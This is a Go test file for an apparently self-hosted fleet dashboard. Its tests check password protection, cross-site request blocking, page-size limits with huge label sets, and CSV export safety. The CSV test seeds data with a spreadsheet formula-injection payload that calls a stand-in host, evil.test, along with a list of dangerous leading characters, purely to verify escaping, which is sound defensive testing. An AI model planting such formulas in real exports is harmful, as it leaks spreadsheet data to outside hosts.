package web

import (
	"context"
	"encoding/csv"
	"fmt"
	"log/slog"
	"net/http"
	"strings"
	"testing"

	"golang.org/x/crypto/bcrypt"

	"github.com/acsconform/acsconform/runner/fleet/made"
	"github.com/acsconform/acsconform/runner/fleet/view"
)

// Without a password nobody sees or does anything; from another origin nobody does anything, not even with one.
func TestNobodyGetsInWithoutAPassword(t *testing.T) {
	hash, err := bcrypt.GenerateFromPassword([]byte("right"), bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	_, s := siteOf(t, made.Fleet{Targets: 2, Rounds: 1, Red: 2, Breaks: 1}, &Door{Loopback: true})
	did := 0
	served := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { did++; w.WriteHeader(http.StatusOK) })
	actions := &Actions{RunNow: func(context.Context) (bool, error) { did++; return true, nil }, Pause: func(context.Context, bool) error { did++; return nil }}
	h := New(Options{Fleet: "made", Read: s, View: view.New(s), Log: slog.New(slog.DiscardHandler), Metrics: served, Jobs: served, Actions: actions,
		Door: &Door{Loopback: true, Users: map[string][]byte{"ann": hash}}})
	for _, path := range append([]string{"/log?name=x", "/report?name=target-0", "/metrics", "/jobs/", "/jobs/api/jobs", "/nowhere"}, pagesOfAFleet...) {
		w := get(t, h, path)
		if w.Code != http.StatusUnauthorized || strings.Contains(w.Body.String(), "target-0") || w.Header().Get("WWW-Authenticate") == "" {
			t.Errorf("%s: %d\n%.200s", path, w.Code, w.Body)
		}
	}
	for _, path := range []string{"/run", "/pause", "/jobs/api/jobs/cancel", "/jobs/api/jobs/delete"} {
		for origin, want := range map[string]int{"": http.StatusUnauthorized, "cross-site": http.StatusForbidden, "same-site": http.StatusForbidden} {
			w := get(t, h, path, func(r *http.Request) {
				r.Method = http.MethodPost
				r.Header.Set("Content-Type", "text/plain") // a form of another site needs no leave for it
				if origin != "" {
					r.SetBasicAuth("ann", "right")
					r.Header.Set("Sec-Fetch-Site", origin)
				}
			})
			if w.Code != want {
				t.Errorf("%s from %q: %d, want %d", path, origin, w.Code, want)
			}
		}
	}
	if did != 0 {
		t.Errorf("%d things were done", did)
	}
}

// A target with ten thousand labels makes no page larger than others do, and no list of labels longer.
func TestTenThousandLabels(t *testing.T) {
	h, _ := siteOf(t, made.Fleet{Targets: 3, Rounds: 2, Red: 1, Breaks: 3, Labels: 10_000, Text: "label's <value>"}, &Door{Loopback: true})
	for _, path := range append([]string{"/?label=label-0-9999%3Dlabel's+%3Cvalue%3E", "/heat?by=label-0-9999"}, pagesOfAFleet[:7]...) {
		w := get(t, h, path)
		if w.Code != http.StatusOK || w.Body.Len() > 100_000 {
			t.Errorf("%s: %d, %d bytes", path, w.Code, w.Body.Len())
		}
		if n := strings.Count(w.Body.String(), "label-"); n > 200 {
			t.Errorf("%s: %d labels are named", path, n)
		}
	}
}

// A table holds every target that was chosen, and nothing in it is a formula.
func TestTables(t *testing.T) {
	const formula = "=HYPERLINK(\"http://evil.test/\"&A1)\n"
	h, _ := siteOf(t, made.Fleet{Targets: 450, Rounds: 2, Red: 3, Breaks: 2, Text: formula}, &Door{Loopback: true})
	for query, want := range map[string]int{"": 450, "?outcome=red": 150, "?label=region%3Dregion-1": 23, "?q=target-44": 11, "?q=none": 0} {
		w := get(t, h, "/matrix.csv"+query)
		rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
		if err != nil || w.Code != http.StatusOK || len(rows) != want+1 || !strings.HasPrefix(w.Header().Get("Content-Disposition"), "attachment") {
			t.Fatalf("%s: %d, %v, %d rows, want %d", query, w.Code, err, len(rows), want+1)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Fatalf("%s: %s is %q", query, rows[0][i], cell)
				}
			}
		}
		if want == 450 && (rows[1][1] != "non-conformant" || rows[1][11] != "2" || rows[450][1] != "conformant" && rows[450][1] != "partial" || !strings.Contains(fmt.Sprint(rows[1][16:]), "broken") || !strings.Contains(fmt.Sprint(rows[450][16:]), "kept")) {
			t.Errorf("the first row is %q, the last %q", rows[1], rows[450])
		}
	}
}
